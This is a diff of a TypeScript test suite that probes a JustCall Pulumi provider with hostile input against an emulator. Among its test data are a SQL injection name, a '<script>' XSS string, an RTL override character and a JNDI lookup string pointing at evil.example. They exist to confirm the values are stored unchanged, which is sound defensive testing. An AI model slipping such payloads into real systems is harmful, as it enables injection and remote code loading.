@@ -6,8 +6,8 @@
 import * as http from "node:http";
 import type { AddressInfo } from "node:net";
 import { expect } from "chai";
-import { FaultRule, RunningEmulator } from "../../emulator";
-import { AgentSpec, rosterProgram } from "../support/justcall";
+import type { FaultRule, RunningEmulator } from "../../emulator";
+import { type AgentSpec, rosterProgram } from "../support/justcall";
 import { cliOutput, UserRepo } from "../support/user-repo";
 import { SNAPSHOT_TTL_MS } from "../../provider/client";
 import { checkAccount, checkStateIds, config, emulator, managedResources, Project, requestCount, roster, row } from "./harness";
@@ -60,13 +60,22 @@ describe("reliability: hostile input", function () {
   /** Every agent JustCall holds beyond the seed is in the stack's state, and every id in state is JustCall's. */
   async function nothingUnrecorded(emu: RunningEmulator, deployment: any): Promise<string[]> {
     const account = (await emu.admin.state()).accounts[0];
-    const inState = new Set(managedResources(deployment).filter((r) => r.type.endsWith(":Agent")).map((r) => Number(r.id)));
-    const extra = account.agents.filter((a) => a.id > 103 && !inState.has(a.id)).map((a) => `JustCall holds ${a.email} (${a.id}), the state does not`);
+    const inState = new Set(
+      managedResources(deployment)
+        .filter((r) => r.type.endsWith(":Agent"))
+        .map((r) => Number(r.id)),
+    );
+    const extra = account.agents
+      .filter((a) => a.id > 103 && !inState.has(a.id))
+      .map((a) => `JustCall holds ${a.email} (${a.id}), the state does not`);
     return [...extra, ...checkStateIds(deployment, account)];
   }
 
   it("rejects invalid roster entries at preview, naming each resource and field, with no write", async () => {
-    const r = row("Hostile: invalid fields", "bad email, blank first name, 300-character last name, phone 555-1234, time zone Mars/Olympus, role owner, unknown team");
+    const r = row(
+      "Hostile: invalid fields",
+      "bad email, blank first name, 300-character last name, phone 555-1234, time zone Mars/Olympus, role owner, unknown team",
+    );
     const good = roster(1, "valid")[0];
     const bad: AgentSpec[] = [
       { name: "badEmail", email: "not-an-email", firstname: "A", lastname: "B" },
@@ -84,15 +93,21 @@ describe("reliability: hostile input", function () {
       ["badPhone", /property phone value .* has a problem: phone must be an E\.164 number/],
       ["badZone", /property timezone value .* has a problem: timezone must be an IANA time zone/],
       ["badRole", /property role value .* has a problem: role must be one of agent, supervisor, admin/],
-      ["badTeam-in-No Such Team", /no team named "No Such Team" in the JustCall account \(teams: Support \(10\), Sales \(11\), Billing \(12\)\)/],
+      [
+        "badTeam-in-No Such Team",
+        /no team named "No Such Team" in the JustCall account \(teams: Support \(10\), Sales \(11\), Billing \(12\)\)/,
+      ],
     ];
     const failedLine = (text: string, name: string) =>
-      text.split("\n").find((l) => l.includes(`resource '${name}'`) || (name.includes("-in-") && l.includes(name) && /error/.test(l))) ?? "";
+      text.split("\n").find((l) => l.includes(`resource '${name}'`) || (name.includes("-in-") && l.includes(name) && /error/.test(l))) ??
+      "";
     const { emu, repo } = await cliSetup("invalid", [good, ...bad]);
     // The engine stops a preview at its first failed check: it names one of them.
     const preview = await repo.pulumi(["preview"]);
     expect(preview.code, "preview fails").to.not.equal(0);
-    const named = expected.filter(([name, why]) => why.test(failedLine(cliOutput(preview), name)) || (name.includes("-in-") && why.test(cliOutput(preview))));
+    const named = expected.filter(
+      ([name, why]) => why.test(failedLine(cliOutput(preview), name)) || (name.includes("-in-") && why.test(cliOutput(preview))),
+    );
     expect(named.length, `preview names an invalid resource and its field: ${cliOutput(preview)}`).to.be.greaterThan(0);
     const writes = (await emu.admin.requests()).requests.filter((q) => q.method !== "GET");
     expect(writes, "preview wrote nothing").to.deep.equal([]);
@@ -100,12 +115,18 @@ describe("reliability: hostile input", function () {
     // up stops at a failed check too (even with --continue-on-error): nothing it does not record is written.
     const up = await repo.pulumi(["up", "--yes", "--skip-preview", "--continue-on-error"]);
     expect(up.code).to.not.equal(0);
-    expect(expected.some(([name, why]) => why.test(failedLine(cliOutput(up), name)) || (name.includes("-in-") && why.test(cliOutput(up)))), cliOutput(up)).to.equal(true);
+    expect(
+      expected.some(([name, why]) => why.test(failedLine(cliOutput(up), name)) || (name.includes("-in-") && why.test(cliOutput(up)))),
+      cliOutput(up),
+    ).to.equal(true);
     const deployment = (await repo.exportState()).deployment;
     expect(await nothingUnrecorded(emu, deployment)).to.deep.equal([]);
     const account = (await emu.admin.state()).accounts[0];
     for (const b of bad.filter((x) => x.name !== "badTeam")) {
-      expect(account.agents.find((a) => a.email === b.email), b.name).to.equal(undefined);
+      expect(
+        account.agents.find((a) => a.email === b.email),
+        b.name,
+      ).to.equal(undefined);
     }
     // So each invalid entry, previewed on its own, is named with its reason.
     for (const [i, [name, why]] of expected.entries()) {
@@ -121,17 +142,21 @@ describe("reliability: hostile input", function () {
     expect(written.length, JSON.stringify(written)).to.equal(managedResources(deployment).length);
     r.requests = await requestCount(emu);
     r.duplicates = (await checkAccount(emu, [])).duplicates;
-    r.result = "the engine stops preview and up (even with --continue-on-error) at the first failed check, which names the resource, field and reason; each of the 7 previewed alone is named the same way; 0 writes";
+    r.result =
+      "the engine stops preview and up (even with --continue-on-error) at the first failed check, which names the resource, field and reason; each of the 7 previewed alone is named the same way; 0 writes";
   });
 
   it("stores unicode and injection-looking names exactly, and refresh sees no change", async () => {
-    const r = row("Hostile: unicode and injection", "names `Robert'); DROP TABLE agents;--`, emoji, Arabic (RTL), RTL override, `<script>`, `${jndi:…}`, quotes and backslashes; emails with + and '");
+    const r = row(
+      "Hostile: unicode and injection",
+      "names `Robert'); DROP TABLE agents;--`, emoji, Arabic (RTL), RTL override, `<script>`, `${jndi:…}`, quotes and backslashes; emails with + and '",
+    );
     const { emu, project, cfg } = await setup("unicode");
     const specs: AgentSpec[] = [
       { name: "sql", email: "robert+drop@acme.example", firstname: "Robert'); DROP TABLE agents;--", lastname: "Tables" },
       { name: "emoji", email: "zoe@acme.example", firstname: "Zoë 😀🎧", lastname: "Ünïcödé 👩🏽‍💻" },
       { name: "rtl", email: "maryam@acme.example", firstname: "مريم", lastname: "العربي" },
-      { name: "override", email: "o'brien@acme.example", firstname: "\u202Eevil\u202C", lastname: "O'Brien \"Quoted\" \\ back\\slash" },
+      { name: "override", email: "o'brien@acme.example", firstname: "\u202Eevil\u202C", lastname: 'O\'Brien "Quoted" \\ back\\slash' },
       { name: "markup", email: "markup@acme.example", firstname: "<script>alert(1)</script>", lastname: "${jndi:ldap://evil.example/a}" },
     ];
     const stack = await project.stack(rosterProgram(specs), cfg);
@@ -151,7 +176,8 @@ describe("reliability: hostile input", function () {
       { name: "lower", email: "dup@acme.example", firstname: "Dup", lastname: "Lower" },
       { name: "upper", email: "DUP@Acme.Example", firstname: "Dup", lastname: "Upper" },
     ];
-    const clash = /another Agent in this program has email (dup@acme\.example|DUP@Acme\.Example), the same address: JustCall ignores case in emails/;
+    const clash =
+      /another Agent in this program has email (dup@acme\.example|DUP@Acme\.Example), the same address: JustCall ignores case in emails/;
     const { emu, repo } = await cliSetup("case", specs);
     const preview = await repo.fails(["preview"]);
     expect(preview).to.match(clash);
@@ -167,7 +193,9 @@ describe("reliability: hostile input", function () {
     expect(agents.length, "at most one agent").to.be.at.most(1);
     expect(invitations.length, "at most one invitation").to.equal(agents.length);
     const deployment = (await repo.exportState()).deployment;
-    expect(managedResources(deployment).filter((x) => x.type.endsWith(":Agent")).length, "one Agent recorded at most").to.equal(agents.length);
+    expect(managedResources(deployment).filter((x) => x.type.endsWith(":Agent")).length, "one Agent recorded at most").to.equal(
+      agents.length,
+    );
     expect(await nothingUnrecorded(emu, deployment)).to.deep.equal([]);
     r.result = `preview and up failed on the second Agent: "another Agent in this program has email …, the same address: JustCall ignores case in emails"; ${agents.length} agent, ${invitations.length} invitation`;
   });
@@ -198,12 +226,16 @@ describe("reliability: hostile input", function () {
     expect(message).to.match(/Agent garbled@acme\.example: create: .*not JSON/);
     expect(message).to.not.match(CRASH);
     const deployment = (await repo.exportState()).deployment;
-    expect(managedResources(deployment).map((x) => x.type.split(":").pop()), "the membership succeeded in the same run").to.deep.equal(["TeamMembership"]);
+    expect(
+      managedResources(deployment).map((x) => x.type.split(":").pop()),
+      "the membership succeeded in the same run",
+    ).to.deep.equal(["TeamMembership"]);
     expect(await nothingUnrecorded(emu, deployment)).to.deep.equal([]);
     const posts = (await emu.admin.requests()).requests.filter((q) => q.route === "POST /v1/agents").length;
     r.requests = `${await requestCount(emu)} (${posts} create attempts, none applied)`;
     r.duplicates = (await checkAccount(emu, [])).duplicates;
-    r.result = "up failed with `Agent garbled@acme.example: create: JustCall answered … not JSON`; the other resource was created in the same run; no agent written";
+    r.result =
+      "up failed with `Agent garbled@acme.example: create: JustCall answered … not JSON`; the other resource was created in the same run; no agent written";
   });
 
   it("fails only the membership whose add gets an HTML 502 page, naming it", async () => {
@@ -226,38 +258,58 @@ describe("reliability: hostile input", function () {
   });
 
   it("fails only the membership whose team list has an unexpected shape, naming it and the field", async () => {
-    const r = row("Hostile: unexpected shape", "a proxy in front of the emulator answers GET /v1/teams with data as an object ({teams: [...]}) instead of a list");
+    const r = row(
+      "Hostile: unexpected shape",
+      "a proxy in front of the emulator answers GET /v1/teams with data as an object ({teams: [...]}) instead of a list",
+    );
     const target = await emulator();
     emu = target;
     // The emulator has no fault for a well-formed body of the wrong shape, so a small proxy makes one.
     const proxy = http.createServer(async (req, res) => {
       const chunks: Buffer[] = [];
       for await (const c of req) chunks.push(c as Buffer);
-      const headers = Object.fromEntries(Object.entries(req.headers).filter(([k]) => !["host", "connection", "content-length"].includes(k))) as Record<string, string>;
-      const upstream = await fetch(target.url + req.url, { method: req.method, headers, body: chunks.length ? Buffer.concat(chunks) : undefined });
+      const headers = Object.fromEntries(
+        Object.entries(req.headers).filter(([k]) => !["host", "connection", "content-length"].includes(k)),
+      ) as Record<string, string>;
+      const upstream = await fetch(target.url + req.url, {
+        method: req.method,
+        headers,
+        body: chunks.length ? Buffer.concat(chunks) : undefined,
+      });
       let body = await upstream.text();
       if (req.method === "GET" && req.url?.startsWith("/v1/teams?")) {
         const json = JSON.parse(body);
         body = JSON.stringify({ ...json, data: { teams: json.data } });
       }
       const keep = ["content-type", "x-ratelimit-limit", "x-ratelimit-remaining", "x-ratelimit-reset", "retry-after"];
-      res.writeHead(upstream.status, Object.fromEntries(keep.filter((k) => upstream.headers.has(k)).map((k) => [k, upstream.headers.get(k)!])));
+      res.writeHead(
+        upstream.status,
+        Object.fromEntries(keep.filter((k) => upstream.headers.has(k)).map((k) => [k, upstream.headers.get(k)!])),
+      );
       res.end(body);
     });
     await new Promise<void>((resolve) => proxy.listen(0, "127.0.0.1", resolve));
     try {
       const url = `http://127.0.0.1:${(proxy.address() as AddressInfo).port}`;
-      cli = UserRepo.programProject("rel-shape", agentAndSamInBilling("shaped", { email: "shaped@acme.example", firstname: "Sha", lastname: "Ped" }));
+      cli = UserRepo.programProject(
+        "rel-shape",
+        agentAndSamInBilling("shaped", { email: "shaped@acme.example", firstname: "Sha", lastname: "Ped" }),
+      );
       const repo = cli;
       await repo.initStack(target, "test", { "justcall:baseUrl": url });
       const message = await repo.fails(["up", "--yes", "--skip-preview", "--continue-on-error"]);
-      expect(message).to.match(/TeamMembership resource 'sam-in-Billing': property teamName value \{Billing\} has a problem: TeamMembership: team look-up: JustCall answered GET \/v1\/teams with an unexpected shape at data: /);
+      expect(message).to.match(
+        /TeamMembership resource 'sam-in-Billing': property teamName value \{Billing\} has a problem: TeamMembership: team look-up: JustCall answered GET \/v1\/teams with an unexpected shape at data: /,
+      );
       expect(message).to.not.match(CRASH);
       const deployment = (await repo.exportState()).deployment;
       // The membership's check fails; whether the engine got to create the agent first varies
       // (a check failure ends the run even with --continue-on-error), and nothingUnrecorded below
       // shows that what it created is in the state.
-      expect(managedResources(deployment).map((x) => x.type.split(":").pop()), "no membership recorded").to.not.include("TeamMembership");
+      expect(
+        managedResources(deployment).map((x) => x.type.split(":").pop()),
+        "no membership recorded",
+      ).to.not.include("TeamMembership");
       expect(await nothingUnrecorded(target, deployment)).to.deep.equal([]);
       const billing = (await target.admin.state()).accounts[0].teams.find((t) => t.name === "Billing")!;
       expect(billing.agents).to.not.include(SAM);
@@ -265,7 +317,8 @@ describe("reliability: hostile input", function () {
       expect(log.requests.filter((q) => q.route === "GET /v1/teams").length, "a shape error is not retried").to.be.at.most(2);
       r.requests = log.counters.total;
       r.duplicates = 0;
-      r.result = "up failed at the membership's check: `TeamMembership resource 'sam-in-Billing': property teamName ... has a problem: TeamMembership: team look-up: JustCall answered GET /v1/teams with an unexpected shape at data: …`, not retried; no membership written; whatever the run created is in the state";
+      r.result =
+        "up failed at the membership's check: `TeamMembership resource 'sam-in-Billing': property teamName ... has a problem: TeamMembership: team look-up: JustCall answered GET /v1/teams with an unexpected shape at data: …`, not retried; no membership written; whatever the run created is in the state";
     } finally {
       proxy.closeAllConnections();
       await new Promise((resolve) => proxy.close(resolve));
@@ -275,21 +328,32 @@ describe("reliability: hostile input", function () {
   it("times out a hung API call at justcall:operationTimeout, naming the resource, with no write", async () => {
     const r = row("Hostile: API hangs", "GET /v1/agents delayed 8 s; justcall:operationTimeout 2 s");
     const program = agentAndSamInBilling("hung", { email: "hung@acme.example", firstname: "Hu", lastname: "Ng" });
-    const { emu, repo } = await cliSetup("hang", program, { "justcall:operationTimeout": "2" }, [{ route: "GET /v1/agents", kind: "latency", latencyMs: 8000 }]);
+    const { emu, repo } = await cliSetup("hang", program, { "justcall:operationTimeout": "2" }, [
+      { route: "GET /v1/agents", kind: "latency", latencyMs: 8000 },
+    ]);
     const message = await repo.fails(["up", "--yes", "--skip-preview"]);
-    expect(message).to.match(/Agent resource 'hung': property email .* has a problem: Agent hung@acme\.example: look-up did not finish within 2s \(justcall:operationTimeout\)/);
+    expect(message).to.match(
+      /Agent resource 'hung': property email .* has a problem: Agent hung@acme\.example: look-up did not finish within 2s \(justcall:operationTimeout\)/,
+    );
     expect(message).to.not.match(CRASH);
     expect(repo.processes(), "the run has ended").to.deep.equal([]);
     const deployment = (await repo.exportState()).deployment;
     // The agent's check fails; whether the engine got to create the membership first varies, and
     // nothingUnrecorded below shows that what it created is in the state.
-    expect(managedResources(deployment).map((x) => x.type.split(":").pop()), "no agent recorded").to.not.include("Agent");
+    expect(
+      managedResources(deployment).map((x) => x.type.split(":").pop()),
+      "no agent recorded",
+    ).to.not.include("Agent");
     const log = await emu.admin.requests();
-    expect(log.requests.filter((q) => q.route === "POST /v1/agents"), "no create was sent").to.deep.equal([]);
+    expect(
+      log.requests.filter((q) => q.route === "POST /v1/agents"),
+      "no create was sent",
+    ).to.deep.equal([]);
     expect(await nothingUnrecorded(emu, deployment)).to.deep.equal([]);
     r.requests = log.counters.total;
     r.duplicates = 0;
-    r.result = "up failed at the agent's check: `Agent hung@acme.example: look-up did not finish within 2s (justcall:operationTimeout)`; no agent write; whatever the run created is in the state";
+    r.result =
+      "up failed at the agent's check: `Agent hung@acme.example: look-up did not finish within 2s (justcall:operationTimeout)`; no agent write; whatever the run created is in the state";
   });
 
   it("sends no write after an operation's deadline has passed, even while the provider keeps running", async () => {
@@ -300,7 +364,13 @@ describe("reliability: hostile input", function () {
     // Backoff after five failures is at least 125+250+500+1000+2000 ms, so the sixth attempt
     // would come after the 2 s deadline; the chain below (with --continue-on-error, so that the
     // engine goes on after the agent fails) keeps the provider busy for about 8 s.
-    const chain = [["Billing", 102], ["Support", 103], ["Sales", 103], ["Sales", 101], ["Billing", 101]];
+    const chain = [
+      ["Billing", 102],
+      ["Support", 103],
+      ["Sales", 103],
+      ["Sales", 101],
+      ["Billing", 101],
+    ];
     const program = [
       `new Agent("late", ${JSON.stringify({ email: "late@acme.example", firstname: "La", lastname: "Te" })});`,
       "let previous;",
@@ -315,7 +385,10 @@ describe("reliability: hostile input", function () {
     const message = await repo.fails(["up", "--yes", "--skip-preview", "--continue-on-error"]);
     expect(message).to.match(/Agent late@acme\.example: create did not finish within 2s/);
     const deployment = (await repo.exportState()).deployment;
-    expect(managedResources(deployment).filter((x) => x.type.endsWith(":TeamMembership")), `the chain completed: ${message}`).to.have.length(5);
+    expect(
+      managedResources(deployment).filter((x) => x.type.endsWith(":TeamMembership")),
+      `the chain completed: ${message}`,
+    ).to.have.length(5);
     const log = await emu.admin.requests();
     const creates = log.requests.filter((q) => q.route === "POST /v1/agents").map((q) => q.status);
     r.requests = `${log.counters.total} (creates: ${creates.join(", ")})`;
